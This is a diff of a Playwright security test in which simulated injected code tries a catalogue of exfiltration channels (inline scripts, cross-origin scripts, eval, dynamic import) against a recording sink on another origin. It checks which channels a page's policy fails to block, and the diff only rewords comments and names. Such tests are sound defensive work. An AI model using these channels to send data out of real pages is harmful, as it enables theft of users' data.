@@ -4,7 +4,7 @@ import { expect, test as base } from '@playwright/test'
 import { keepVerdict } from '../../release/judges/verdicts.ts'
 
 type Breach = {
-  /** Tries every way out, and says which of them the page was not told that they are closed. */
+  /** Tries every exfiltration channel and lists those for which the page saw no error. */
   tryAll: (sink: string) => Promise<{ tried: string[]; silent: string[] }>
 }
 
@@ -12,7 +12,7 @@ declare global {
   var breach: Breach
 }
 
-/** A host on another origin, which remembers what reaches it. */
+/** A host on another origin that records all requests. */
 const test = base.extend<{ sink: { origin: string; seen: string[] } }>({
   sink: async ({ context }, use) => {
     const seen: string[] = []
@@ -29,7 +29,7 @@ const test = base.extend<{ sink: { origin: string; seen: string[] } }>({
   },
 })
 
-/** Runs in the page, as an attacker's code would whatever way it came in. */
+/** Runs in the page, as injected code would. */
 function attacker() {
   const make = (tag: string, attributes: Record<string, string>) => {
     const element = document.createElement(tag)
@@ -73,7 +73,7 @@ function attacker() {
   const run = Reflect.get(globalThis, 'eval') as (text: string) => unknown
   const load = (address: string) => import(/* @vite-ignore */ address)
 
-  const ways: Record<string, (to: string) => unknown> = {
+  const channels: Record<string, (to: string) => unknown> = {
     'inline script': (to) => script('text', code(to)),
     'inline script under a policy': (to) => script('text', policy('a').createScript(code(to))),
     'script of another origin': (to) => script('src', to),
@@ -157,11 +157,11 @@ function attacker() {
     },
   }
 
-  const PATIENCE_MS = 60_000
-  /** Not when an exception or the policy tells the page that the way is closed. */
-  const isSilent = (way: (to: string) => unknown, to: string) =>
+  const TIMEOUT_MS = 60_000
+  /** False if an exception or a policy violation reports that the channel is blocked. */
+  const isSilent = (send: (to: string) => unknown, to: string) =>
     new Promise<boolean>((resolve) => {
-      const timer = setTimeout(() => resolve(true), PATIENCE_MS)
+      const timer = setTimeout(() => resolve(true), TIMEOUT_MS)
       const stopped = () => {
         clearTimeout(timer)
         removeEventListener('securitypolicyviolation', stopped)
@@ -169,27 +169,30 @@ function attacker() {
       }
       addEventListener('securitypolicyviolation', stopped)
       Promise.resolve()
-        .then(() => way(to))
+        .then(() => send(to))
         .catch(stopped)
     })
 
   globalThis.breach = {
     async tryAll(sink) {
       const silent: string[] = []
-      for (const [name, way] of Object.entries(ways)) {
-        if (await isSilent(way, `${sink}/${encodeURIComponent(name)}`)) silent.push(name)
-        // A way may be stopped twice: what is told of it late is not of the next.
+      for (const [name, send] of Object.entries(channels)) {
+        if (await isSilent(send, `${sink}/${encodeURIComponent(name)}`)) silent.push(name)
+        // A channel may be blocked twice: a late report must not count for the next one.
         for (let frame = 0; frame < 3; frame++) await new Promise(requestAnimationFrame)
       }
-      return { tried: Object.keys(ways), silent }
+      return { tried: Object.keys(channels), silent }
     },
   }
 }
 
-/** Known, and open on every site; they show that the sink listens. A refresh and a navigation leave the page. */
+/**
+ * Not blockable by any policy; they show that the sink listens. A refresh and a navigation leave
+ * the page.
+ */
 const OPEN = ['window', 'refresh', 'navigation']
 
-test('an attacker’s code in the page gets nothing out but by the ways that no policy closes [XS-16]', async ({
+test('injected code can send data only by the channels that no policy blocks [XS-16]', async ({
   page,
   context,
   sink,
